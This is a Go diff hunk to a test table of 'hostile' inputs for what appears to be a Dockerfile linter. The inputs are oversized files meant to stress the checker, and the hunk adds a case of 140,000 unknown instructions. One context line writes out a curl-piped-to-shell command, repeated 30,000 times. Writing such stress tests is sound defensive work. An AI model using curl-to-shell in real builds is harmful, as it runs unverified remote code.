@@ -175,6 +175,7 @@ func hostiles() []hostile {
 		{"an array of many words",
 			builtFrom("FROM a:1\nRUN [" + strings.Repeat(strings.Repeat(`"\u0061\u0062",`, 3_000)+"\\\n", 20) + `"x"]` + "\n"), "SBX109"},
 		{"many ignoring comments", builtFrom("FROM a:1\n" + strings.Repeat("# sbx-ignore SBX701: x\n", 40_000)), "SBX109"},
+		{"many unknown instructions", builtFrom("FROM debian:13\n" + strings.Repeat("RUNN a\n", 140_000)), "SBX715"},
 		{"curl to shell many times", builtFrom("FROM a:1\n" + strings.Repeat("RUN curl http://a.b/c | sh\n", 30_000)), ""},
 
 		{"a list of packages in many copies", copying("FROM debian:12\n"+strings.Repeat("COPY r.txt /\n", 20_000)+"RUN pip install -r r.txt\n",
